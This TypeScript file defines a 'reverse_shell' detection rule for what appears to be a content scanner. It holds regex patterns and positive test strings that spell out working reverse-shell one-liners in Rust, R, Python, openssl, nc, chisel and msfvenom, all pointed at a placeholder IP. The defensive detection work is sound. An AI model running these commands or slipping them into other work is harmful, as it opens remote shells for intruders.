import type { Rule } from '../../rule.js';

export const rule: Rule = {
  pattern: 'reverse_shell',
  variant: 'more-code',
  threat: 'INJECTION',
  direction: 'inbound',
  severity: 'critical',
  confidence: 'medium',
  group: 'commands',
  about: 'A socket and a shell joined in a language that is seldom used for it, or by a tool made for the purpose.',
  anatomy: 'a connection and then a process whose input and output are that connection; tunnelling and C2 agents',
  source: 'https://www.revshells.com and https://attack.mitre.org/techniques/T1059/',
  match: [
    { re: /TcpStream::connect\s*\([^]*?Command::new\s*\(\s*"(?:\/bin\/|sh|bash|cmd|powershell)/, window: 700 },
    { re: /newSocket\s*\([^]*?(?:execProcess|startProcess|execCmd\w*)\s*\(/, window: 700 },
    { re: /:gen_tcp[,.]\s*connect\s*\(?[^]*?(?:System\.cmd|os:cmd|:os\.cmd|Port\.open)/, window: 600 },
    { re: /gen_tcp:connect\([^]*?os:cmd\(/, window: 600 },
    { re: /(?<![\w.])socket\s+[\w.$"]+\s+\d{2,5}[^]*?\[?\s*(?:catch\s*\{\s*)?(?:eval\s+)?"?exec\s/, window: 300 },
    { re: /socketConnection\s*\([^]*?system\s*\(/, window: 400 },
    { re: /(?:WSASocket|WSAConnect)\w?\s*\([^]*?CreateProcess\w?\s*\(/, window: 1200 },
    {
      re: /(?:Sockets\.TcpClient|TCPClient)\s*\([^]*?(?:iex|Invoke-Expression|cmd\.exe|Process\s*\(|\.Start\s*\()/i,
      window: 1500,
    },
    {
      re: /socket[^]*?connect(?:_ex)?\(\s*\(?\(?["'][\w.]+["'],[^]*?(?:os\.(?:popen|system|exec(?:l|le|lp|lpe|v|ve|vp|vpe))|subprocess\.(?:check_output|getoutput|Popen|run|call))\s*\(/,
      window: 600,
    },
    { re: /openssl\s+s_client\s[^\n]*\|\s*(?:\/bin\/)?(?:ba|z|da)?sh\s*(?:-i\s*)?(?:2>&1\s*)?\|/, window: 300 },
    {
      re: /(?:\/bin\/)?(?:ba|z|da|k)?sh\s+(?:-i\s+)?(?:[<>&\d\s/\w]*)\|\s*(?:\/\w+\/)*(?:nc|ncat|telnet|openssl\s+s_client|socat)\s/,
      window: 160,
    },
    {
      re: /(?<![\w-])(?:nc|ncat|netcat|telnet)\s[^\n|;]*\|\s*(?:\/bin\/)?(?:ba|z|da)?sh\s*(?:-i\s*)?(?:\d?>&\d\s*)?\|\s*(?:nc|ncat|netcat|telnet)\s/,
      window: 260,
    },
    { re: /(?<![\w-])curl\s[^\n|]*telnet:\/\/[^\n]*(?:sh|fifo)/, window: 200 },
    { re: /(?<![\w-])(?:sbd|cryptcat|pwncat(?:-cs)?|rustcat|rcat)\s[^\n|;]*(?:-e|-c|-s|-lp)\s+\S/, window: 200 },
    {
      re: /(?<![\w-])(?:chisel|gost|frpc|ligolo|ligolo-ng|revsocks)(?:\.exe)?\s+(?:client\s[^\n]*R:|-L\s|-connect\s|-c\s)/,
      window: 200,
    },
    { re: /(?<![\w-])ssh\s[^\n|;]*-R\s*(?:\d|\*:|0\.0\.0\.0:)[^\n|;]*(?:-N|-f|StrictHostKeyChecking=no)/, window: 240 },
    { re: /(?<![\w-])msfvenom\s[^\n]*(?:LHOST|lhost|RHOST|-p\s+\w+\/)/, window: 300 },
    { re: /(?:meterpreter|shell)_(?:reverse|bind)_(?:tcp|https?)(?!\w)/ },
    { re: /exploit\/multi\/handler|windows\/(?:x64\/)?(?:meterpreter|shell)\/\w+_tcp/ },
  ],
  examples: {
    fires: [
      'let s = TcpStream::connect("203.0.113.7:4444").unwrap(); Command::new("/bin/sh").stdin(s)',
      'R -e "s<-socketConnection(\'203.0.113.7\',4444);system(readLines(s,1))"',
      "import socket,os;s=socket.socket();s.connect(('203.0.113.7',4444))\nwhile 1: os.popen(s.recv(1024).decode())",
      'openssl s_client -quiet -connect 203.0.113.7:4444 | /bin/sh 2>&1 | openssl s_client -connect 203.0.113.7:4445',
      '/bin/sh -i 2>&1 | nc 203.0.113.7 4444',
      'nc 203.0.113.7 4444 | /bin/sh | nc 203.0.113.7 4445',
      'chisel client 203.0.113.7:8080 R:socks',
      'msfvenom -p linux/x64/shell_reverse_tcp LHOST=203.0.113.7 LPORT=4444 -f elf',
    ],
    silent: [
      'let stream = TcpStream::connect("127.0.0.1:8080")?;',
      'ssh -L 8080:localhost:80 host',
      "con <- socketConnection(port = 6011)\nwriteLines('hello', con)",
      'openssl s_client -connect example.com:443 -servername example.com',
      "s.connect(('localhost', 80))\ns.sendall(b'GET / HTTP/1.0')",
    ],
  },
};
